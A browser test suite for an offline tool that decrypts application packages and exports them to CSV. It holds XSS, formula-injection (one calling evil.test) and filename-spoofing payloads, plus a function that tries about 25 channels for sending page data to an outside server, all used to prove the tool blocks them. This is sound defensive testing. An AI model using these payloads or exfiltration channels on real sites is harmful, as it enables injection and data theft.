// The office's desk: opened from a host and from a file, it opens packages, lists them, exports them, and lets
// nothing out.

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { basename, join } from "node:path";
import { pathToFileURL } from "node:url";
import { after, afterEach, before, beforeEach, describe, it } from "node:test";

import { alive, downloaded, press, type } from "./action.mjs";
import { DESK, launch, media, NARROWEST, PHONE, until } from "./browser.mjs";
import * as check from "./check.mjs";
import { byLabel, byRole, isThere, seen, text } from "./find.mjs";
import { archive, message, quoted } from "./mail.mjs";
import { golden, KEYS, seal } from "./package.mjs";
import { DIST, folder } from "./site.mjs";
import { serve } from "./server.mjs";

/** Whatever of this runs, says so; in a table, whatever of it is taken for a formula, shows. */
const HOSTILE = [
  "<img src=x onerror=\"document.title='pwned'\">",
  "</script><script>document.title='pwned'</script>",
  "=HYPERLINK(\"http://evil.test\",\"x\")",
  "＝1+1",
  "+8613800138000",
  "'quoted",
  "javascript:alert(1)",
  "a\u202egpj.exe",
  "line one\nline two, \"quoted\"; semicolon",
  "{{7*7}} ${7*7}",
];

const ANSWERS = [
  { fields: { name: "测试甲", id_type: "resident", id_no: "659900199001010016", mobile: "13800138000", email: "ceshi@example.com" }, tables: { education: [{ school: "测试大学", start: "2018-09" }, { school: "测试研究院" }] } },
  { fields: { name: "测试古丽·示例", id_no: "65990019900101002X", statement: "长".repeat(2000) } },
  ...HOSTILE.map((payload) => ({ fields: { name: payload, statement: payload, hobby: payload }, tables: { education: [{ school: payload }] } })),
];

/** Files on a disk, as an office has them in its mail folder. */
function post() {
  const at = folder();
  const files = ANSWERS.map((answers, number) => {
    const { sealed, reference, id } = seal(number + 1, answers);
    // Names are the senders' business.
    const name = number === 2 ? "<img src=x onerror=alert(1)>.age" : `报名 (${number}).jpg`;
    const path = join(at, name);
    writeFileSync(path, sealed);
    return { path, reference, id, ...answers };
  });
  const damaged = join(at, "damaged.age");
  writeFileSync(damaged, readFileSync(golden("v1-files.age")).subarray(0, 3000));
  const other = join(at, "<b>photo.png");
  writeFileSync(other, Buffer.from("89504e470d0a1a0a00", "hex"));
  return { at, files, damaged, other };
}

/** Rows of cells as a spreadsheet program sees them. */
function cells(csv) {
  const rows = [[]];
  for (const [, quoted, bare, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1).push(quoted?.replaceAll('""', '"') ?? bare);
    if (end !== ",") rows.push([]);
  }
  return rows.slice(0, -1);
}

/** What the office typed is what stands behind the one apostrophe. */
const meant = (cell) => cell.replace(/^'/, "");

// What the page hands to the browser's downloads, for drivers that keep no downloads.
const remember = () => {
  const make = URL.createObjectURL;
  URL.createObjectURL = (blob) => {
    if (blob.type.startsWith("text/csv")) window.handedOut = blob;
    return make.call(URL, blob);
  };
};

/** Everything by which a page can reach the address `to`. Runs in the page; returns what was tried. */
const plant = async (to) => {
  const tried = [];
  const attempt = (name, act) => {
    tried.push(name);
    try { const made = act(); made?.catch?.(() => {}); } catch { /* refused */ }
  };
  const element = (name, set) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(set)) made[key] = value;
    document.body.append(made);
    return made;
  };
  attempt("fetch", () => fetch(`${to}/fetch`));
  attempt("keepalive", () => fetch(`${to}/keepalive`, { mode: "no-cors", keepalive: true, method: "POST", body: "k" }));
  attempt("xhr", () => { const it = new XMLHttpRequest(); it.open("POST", `${to}/xhr`); it.send("k"); });
  attempt("beacon", () => navigator.sendBeacon(`${to}/beacon`, "k"));
  attempt("img", () => element("img", { src: `${to}/img` }));
  attempt("style", () => element("link", { rel: "stylesheet", href: `${to}/style` }));
  attempt("prefetch", () => element("link", { rel: "prefetch", href: `${to}/prefetch` }));
  attempt("preload", () => element("link", { rel: "preload", as: "image", href: `${to}/preload` }));
  attempt("background", () => { document.body.style.backgroundImage = `url(${to}/background)`; });
  attempt("font", () => { const face = new FontFace("f", `url(${to}/font)`); document.fonts.add(face); return face.load(); });
  attempt("audio", () => element("audio", { src: `${to}/audio`, preload: "auto" }));
  attempt("iframe", () => element("iframe", { src: `${to}/iframe` }));
  attempt("object", () => element("object", { data: `${to}/object` }));
  attempt("script", () => element("script", { src: `${to}/script` }));
  attempt("import", () => import(`${to}/import`));
  attempt("socket", () => new WebSocket(`${to.replace("http", "ws")}/socket`));
  attempt("events", () => new EventSource(`${to}/events`));
  attempt("worker", () => new Worker(`${to}/worker`));
  attempt("blob", () => new Worker(URL.createObjectURL(new Blob([`fetch("${to}/blob"); importScripts("${to}/blob-import")`]))));
  attempt("shared", () => new SharedWorker(`${to}/shared`));
  attempt("service", () => navigator.serviceWorker.register(`${to}/service`));
  attempt("markup", () => { document.body.insertAdjacentHTML("beforeend", `<img src="${to}/markup">`); });
  attempt("eval", () => globalThis["ev" + "al"](`fetch("${to}/eval")`));
  attempt("telephone", () => { const it = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(to).host}` }] }); it.createDataChannel("d"); return it.createOffer().then((offer) => it.setLocalDescription(offer)); });
  await new Promise((done) => setTimeout(done, 1_000));
  // Last, since where it works it leads away.
  attempt("form", () => element("form", { action: `${to}/form`, method: "post" }).submit());
  await new Promise((done) => setTimeout(done, 500));
  return tried;
};

const put = async (visitor, label, ...files) => (await byLabel(visitor, label)).uploadFile(...files);
const giveKey = async (visitor, key = KEYS.office) => {
  await put(visitor, "选择密钥文件", key);
  await text(visitor, "密钥已载入");
};
const giveFiles = (visitor, ...files) => put(visitor, "把报名文件拖到这里", ...files);
const rows = ({ page }) => page.$$eval(".desk__line", (rows) => rows.map((row) => row.innerText));
const refused = ({ page }) => page.$$eval(".desk__refused tbody tr", (rows) => rows.map((row) => row.innerText.replace(/\s+/g, " ")));
const opened = (visitor, count) => until(`${count} applications`, async () => (await rows(visitor)).length === count && !(await isThere(visitor, "button", "取消")));

for (const engine of ["chromium", "firefox"]) {
  describe(`in ${engine}`, () => {
    let browser, host, mail;
    before(async () => {
      mail = post();
      host = await serve(DIST);
      browser = await launch(engine);
    });
    after(async () => {
      await browser.close();
      await host.close();
    });

    const places = {
      "from a host": () => host.url("/desk/"),
      "from a file": () => pathToFileURL(join(DIST, "desk.html")).href,
    };
    for (const [how, place] of Object.entries(places)) {
      describe(how, () => {
        let visitor;
        const visit = async (options = {}) => {
          visitor = await browser.visit({ screen: DESK, before: [remember, ...(options.before ?? [])] });
          await visitor.page.goto(place());
          await alive(visitor);
        };
        afterEach(() => visitor?.close());

        it("opens what is dropped, one bad file among it, and exports what was typed", async () => {
          await visit();
          await giveKey(visitor);
          await text(visitor, "60BAD6F086167F6AA999");
          const again = mail.files[0].path;
          await giveFiles(visitor, ...mail.files.map((file) => file.path), mail.damaged, mail.other, again, golden("v1-text.txt"), KEYS.backup);
          await opened(visitor, ANSWERS.length + 1);

          assert.deepEqual(await refused(visitor), [
            "damaged.age 文件不完整，可能是传输中断。请报名人重新发送。",
            "<b>photo.png 不是报名系统生成的文件，未打开。",
            "demo-backup.key 这是密钥文件，不是报名文件。密钥在第一步选择。",
          ]);
          const listed = await rows(visitor);
          assert.match(listed[0], /测试甲/);
          assert.match(listed[0], /收到2次/);
          assert.ok(listed.every((row) => row.includes("演示")));
          assert.ok(listed.every((row) => row.includes("规则版本不同")), "they were sealed under other rules");
          await check.accessible(visitor);

          await press(visitor, "button", "导出表格（CSV）");
          await text(visitor, "已交给浏览器下载");
          const csv = Buffer.from(await visitor.page.evaluate(async () => Array.from(new Uint8Array(await window.handedOut.arrayBuffer()))));
          assert.deepEqual([...csv.subarray(0, 3)], [0xef, 0xbb, 0xbf], "Excel needs the mark");
          const [headings, ...table] = cells(csv.subarray(3).toString());
          assert.equal(table.length, ANSWERS.length + 1);
          assert.ok(table.flat().every((cell) => !/^\s*[=+\-@\t\r＝＋－＠]/.test(cell)), "no cell can be a formula");
          const at = (heading) => headings.indexOf(heading) >= 0 ? headings.indexOf(heading) : assert.fail(`no ${heading} in ${headings}`);
          for (const [number, file] of mail.files.entries()) {
            const cell = (heading) => meant(table[number][at(heading)]);
            assert.equal(cell("报名编号"), file.reference);
            assert.equal(cell("文件标识"), file.id);
            assert.match(cell("初筛规则"), /^现用1-[0-9a-f]{8}；报名时是1，与现用的不同/);
            assert.match(cell("初筛理由"), /^学历：/);
            // The form's own answers are read as the form reads them: without marks that turn the writing round.
            const read = (typed = "") => typed.replace(/[\u202a-\u202e]/g, "");
            const line = (typed) => read(typed).replace("\n", " ");
            assert.equal(line(cell("姓名")), line(file.fields.name));
            assert.equal(cell("个人陈述"), read(file.fields.statement));
            assert.equal(line(cell("教育经历1 学校")), line(file.tables?.education?.[0].school));
            assert.equal(cell("其他：hobby"), file.fields.hobby ?? "");
          }
          assert.equal(meant(table[0][at("证件号码")]), "659900199001010016");
          assert.match(table[0][at("证件号码")], /^'/, "a spreadsheet would round it");
          assert.equal(await visitor.page.title(), "受理台 · 庭州英才", "nothing that was typed has run");
          check.silent(visitor);
        });

        it("takes messages and archives of a mailbox apart, and says what was in which", async () => {
          await visit();
          await giveKey(visitor);
          const bytes = (number) => readFileSync(mail.files[number].path);
          const armoured = readFileSync(golden("v2-text.txt"), "utf8");
          const put = (name, content) => {
            writeFileSync(join(mail.at, name), content);
            return join(mail.at, name);
          };
          const attached = put("报名.eml", message({ files: [{ name: "x (1).age", bytes: bytes(0) }, { name: "照片.jpg", bytes: Buffer.from("ffd8ffe0", "hex") }] }));
          const answered = put("答复.eml", message({ text: quoted(armoured) }));
          const mailbox = put("邮箱.zip", archive([{ name: "二.eml", bytes: message({ files: [{ name: "y.age", bytes: bytes(1) }] }) }, { name: "三.age", bytes: bytes(3) }]));
          const cut = put("坏.zip", readFileSync(mailbox).subarray(0, 400));
          const letter = put("信.eml", message({ text: "请问什么时候公布结果？" }));
          await giveFiles(visitor, attached, answered, mailbox, cut, letter);
          await opened(visitor, 4);
          assert.deepEqual(await refused(visitor), [
            "报名.eml › 照片.jpg 不是报名系统生成的文件，未打开。",
            "坏.zip 压缩包或邮件文件已损坏，没有拆开。请重新下载，或解压以后再放进来。",
            "信.eml 不是报名系统生成的文件，未打开。",
          ]);
          await press(visitor, "button", "测试甲");
          await text(visitor, "报名.eml › x (1).age");
          check.silent(visitor);
        });

        it("opens many at once, and says of one that is gone by then what there is to say of that one", async () => {
          await visit();
          await giveKey(visitor);
          const at = folder();
          // Of one size with the applications, so that they are taken together with them.
          const others = Array.from({ length: 40 }, (_, number) => `${number}.jpg`);
          others.forEach((name) => writeFileSync(join(at, name), Buffer.alloc(20_000, name)));
          const paths = others.map((name) => join(at, name));
          mail.files.forEach(({ path }, number) => paths.splice(number * 4, 0, path));
          const [first, last] = [others[9], others[37]];
          // Between the choice and the opening, which a driver lets nobody see.
          const control = await byLabel(visitor, "把报名文件拖到这里");
          await visitor.page.evaluate(() => addEventListener("change", (event) => event.stopImmediatePropagation(), { capture: true, once: true }));
          await control.uploadFile(...paths);
          [first, last].forEach((name) => rmSync(join(at, name)));
          await control.evaluate((it) => it.dispatchEvent(new Event("change", { bubbles: true })));
          await opened(visitor, ANSWERS.length);
          const said = (name) => ([first, last].includes(name) ? "没有读到文件，可能已移走、改名或正被别的程序使用。请确认后再放一次。" : "不是报名系统生成的文件，未打开。");
          assert.deepEqual(await refused(visitor), others.map((name) => `${name} ${said(name)}`));
          check.silent(visitor);
        });

        it("shows every answer of one application, finds it by the end of its number, and leads back", async () => {
          await visit();
          await giveKey(visitor, KEYS.backup);
          await giveFiles(visitor, ...mail.files.map((file) => file.path));
          await opened(visitor, ANSWERS.length);
          await type(visitor, "查找", "0016");
          await opened(visitor, 1);
          await press(visitor, "button", "测试甲");
          await until("the record", async () => (await seen(visitor, ".desk__record")).includes("659900199001010016"));
          const record = await seen(visitor, ".desk__record");
          for (const part of ["测试甲", "659900199001010016", "13800138000", "ceshi@example.com", "测试大学", "2018-09", "测试研究院", mail.files[0].reference]) {
            assert.ok(record.includes(part), `${part} in ${record}`);
          }
          await until("the heading to have the focus", () => visitor.page.evaluate(() => document.activeElement.id === "record"));
          await check.accessible(visitor);
          // Within what was found there is no other; in the whole list the one with markup in it is third.
          assert.ok(await (await byRole(visitor, "button", "下一份")).evaluate((it) => it.disabled));
          await press(visitor, "button", "返回列表");
          await until("the row to have the focus", () => visitor.page.evaluate(() => document.activeElement.matches(".desk__name")));
          await type(visitor, "查找", "");
          await opened(visitor, ANSWERS.length);
          await press(visitor, "button", "测试甲");
          await until("the record", async () => (await seen(visitor, ".desk__record")).includes("659900199001010016"));
          for (const name of ["测试古丽", "<imgsrc=x"]) {
            await press(visitor, "button", "下一份");
            await until(`${name} as text`, async () => (await seen(visitor, ".desk__record")).includes(name));
          }
          await press(visitor, "button", "返回列表");
          await until("the row to have the focus", () => visitor.page.evaluate(() => document.activeElement.matches(".desk__name") || !document.querySelector(".desk__record")));
          assert.equal(await visitor.page.$(".desk__record"), null);
          check.silent(visitor);
        });

        it("locks at a press, and by itself when nobody is there", async () => {
          await visit({ before: [() => { const now = Date.now; window.ahead = 0; Date.now = () => now() + window.ahead; }] });
          await giveKey(visitor);
          await giveFiles(visitor, mail.files[0].path);
          await opened(visitor, 1);
          await press(visitor, "button", "锁定");
          await text(visitor, "已锁定");
          assert.ok(!(await seen(visitor)).includes("测试甲"));
          assert.ok(await (await byLabel(visitor, "把报名文件拖到这里")).evaluate((it) => it.disabled));

          await giveKey(visitor);
          await giveFiles(visitor, mail.files[0].path);
          await opened(visitor, 1);
          await visitor.page.evaluate(() => { window.ahead = 15 * 60_000 + 1; });
          await visitor.page.mouse.move(200, 200);
          await text(visitor, "已自动锁定");
          assert.ok(!(await seen(visitor)).includes("测试甲"));
          check.silent(visitor);
        });

        it("goes on after a file whose opening never ends, and can be stopped", async () => {
          // The first of the workers that open files never answers; it is not waited for long.
          await visit({
            before: [() => {
              const [Real, wait] = [Worker, setTimeout];
              window.hanging = -1;
              window.Worker = function (...args) {
                window.hanging -= 1;
                return window.hanging >= 0 ? { postMessage() {}, terminate() {} } : new Real(...args);
              };
              window.setTimeout = (then, after, ...rest) => wait(then, after > 10_000 && after < 1e9 && !window.patient ? 3_000 : after, ...rest);
            }],
          });
          await giveKey(visitor);
          await visitor.page.evaluate(() => { window.hanging = 1; });
          await giveFiles(visitor, mail.files[1].path, mail.files[0].path);
          await opened(visitor, 1);
          assert.match((await refused(visitor)).join(), /打开时程序没有反应，已跳过这份文件/);

          await visitor.page.evaluate(() => { window.hanging = 99; window.patient = true; });
          await giveFiles(visitor, mail.files[1].path, mail.files[3].path, mail.files[4].path);
          await press(visitor, "button", "取消");
          await text(visitor, "已取消，还有3份没有打开");
          assert.equal((await rows(visitor)).length, 1);
          await visitor.page.evaluate(() => { window.hanging = 0; });
          await giveFiles(visitor, mail.files[1].path);
          await opened(visitor, 2);

          // Locked meanwhile, it tells nothing of what it was at, and takes nothing in.
          await visitor.page.evaluate(() => { window.hanging = 99; });
          await giveFiles(visitor, mail.files[3].path, mail.files[4].path);
          await until("the opening to be under way", () => isThere(visitor, "button", "取消"));
          await press(visitor, "button", "锁定");
          await text(visitor, "已锁定");
          await visitor.page.evaluate(() => { window.hanging = 0; });
          await giveKey(visitor);
          await giveFiles(visitor, mail.files[0].path);
          await opened(visitor, 1);
          const said = await seen(visitor);
          assert.doesNotMatch(said, /已取消|没有打开\d/);
          check.silent(visitor);
        });

        it("refuses wrong and broken keys in words", async () => {
          await visit();
          await put(visitor, "选择密钥文件", golden("v1-text.age"));
          await text(visitor, "这是加密过的文件，不能直接当作密钥使用");
          const foreign = join(mail.at, "foreign.key");
          writeFileSync(foreign, execFileSync("age-keygen", { stdio: ["ignore", "pipe", "ignore"] }));
          await giveKey(visitor, foreign);
          await giveFiles(visitor, mail.files[0].path);
          await until("the refusal", async () => (await refused(visitor)).length === 1);
          assert.match((await refused(visitor))[0], /现有密钥打不开这份文件/);
          check.silent(visitor);
        });

        it("lets nothing out, whatever a planted script tries", async () => {
          const heard = [];
          const evil = createServer((request, response) => {
            heard.push(request.url);
            response.setHeader("Content-Type", "text/html");
            response.end("<!DOCTYPE html><title>x</title>");
          });
          await new Promise((done) => evil.listen(0, "127.0.0.1", done));
          const to = `http://127.0.0.1:${evil.address().port}`;
          try {
            // A page without a policy: the same attempts arrive.
            const open = await browser.visit();
            await open.page.goto(`${to}/open`);
            await open.page.evaluate(plant, to).catch(() => {}); // the form leads away
            assert.ok(new Set(heard).size > 15, `only these arrived: ${heard}`);
            await open.close();
            heard.length = 0;

            await visit();
            await giveKey(visitor);
            const tried = await visitor.page.evaluate(plant, to);
            assert.equal(tried.length, 25);
            assert.deepEqual(heard, []);
            assert.ok(visitor.noise.length > 10, "the attempts were made and refused");
            assert.equal(await visitor.page.evaluate(() => typeof RTCPeerConnection), "undefined");
            const kept = await visitor.page.evaluate(() => {
              try { return localStorage.length + sessionStorage.length + document.cookie.length; } catch { return 0; }
            });
            assert.equal(kept, 0, "nothing is stored");
          } finally {
            evil.closeAllConnections();
            await new Promise((done) => evil.close(done));
          }
        });
      });
    }

    it("does nothing where the way it came cannot be trusted", async () => {
      const visitor = await browser.visit({ before: [() => Object.defineProperty(window, "isSecureContext", { get: () => false })] });
      await visitor.page.goto(host.url("/desk/"));
      await text(visitor, "这个地址不能用来受理");
      assert.ok(await (await byLabel(visitor, "选择密钥文件")).evaluate((it) => it.disabled));
      check.silent(visitor);
    });

    // Firefox does not let its driver switch scripts off.
    if (engine === "chromium") it("says how it can be started where no script runs", async () => {
      const visitor = await browser.visit({ scripts: false });
      await visitor.page.goto(host.url("/desk/"));
      await text(visitor, "受理台正在启动。如果一直停在这里");
    });
  });
}

describe("on screens", () => {
  let chromium, mail;
  before(async () => {
    mail = post();
    chromium = await launch();
  });
  after(() => chromium.close());

  it("is one file that asks for nothing, and the same under its address", async () => {
    const file = readFileSync(join(DIST, "desk.html"), "utf8");
    assert.equal(file, readFileSync(join(DIST, "desk/index.html"), "utf8"));
    assert.doesNotMatch(file.replace(/<script[\s\S]*?<\/script>/g, ""), /\b(src|href)="(?!data:)/);
    const visitor = await chromium.visit();
    await visitor.page.goto(pathToFileURL(join(DIST, "desk.html")).href);
    await alive(visitor);
    assert.deepEqual(visitor.requests.filter((url) => !/^(data|blob):/.test(url)).length, 1);
  });

  it("keeps the file that was exported, as any browser does", async () => {
    const downloads = join(mail.at, "downloads");
    mkdirSync(downloads);
    const visitor = await chromium.visit();
    const session = await visitor.page.createCDPSession();
    await session.send("Browser.setDownloadBehavior", { behavior: "allow", downloadPath: downloads, browserContextId: visitor.page.browserContext().id });
    await visitor.page.goto(pathToFileURL(join(DIST, "desk.html")).href);
    await alive(visitor);
    await giveKey(visitor);
    await giveFiles(visitor, mail.files[0].path);
    await opened(visitor, 1);
    await press(visitor, "button", "导出表格（CSV）");
    const saved = await downloaded(downloads, ".csv");
    assert.match(basename(saved), /^演示-报名表-\d{4}-\d{2}-\d{2}\.csv$/);
    assert.match(readFileSync(saved, "utf8"), /^\ufeff.*测试甲/s);
  });

  for (const [name, screen] of Object.entries({ "a phone": PHONE, "the narrowest screen": NARROWEST, "an office PC": DESK })) {
    it(`fits ${name}, at work, light and dark`, async () => {
      const visitor = await chromium.visit({ screen });
      await visitor.page.goto(pathToFileURL(join(DIST, "desk.html")).href);
      await alive(visitor);
      await check.fits(visitor);
      await giveKey(visitor);
      await giveFiles(visitor, ...mail.files.map((file) => file.path), mail.damaged);
      await opened(visitor, ANSWERS.length);
      for (const scheme of ["light", "dark"]) {
        await media(visitor, { scheme });
        // Colours change with the next drawing.
        await visitor.page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 50))));
        await check.fits(visitor);
        await check.roomy(visitor);
        await check.accessible(visitor);
      }
      await press(visitor, "button", "统计一下");
      await until("the numbers", () => visitor.page.$(".desk__table--few td"));
      await check.fits(visitor);
      await press(visitor, "button", "测试古丽·示例");
      await check.fits(visitor);
      await check.accessible(visitor);
    });
  }
});
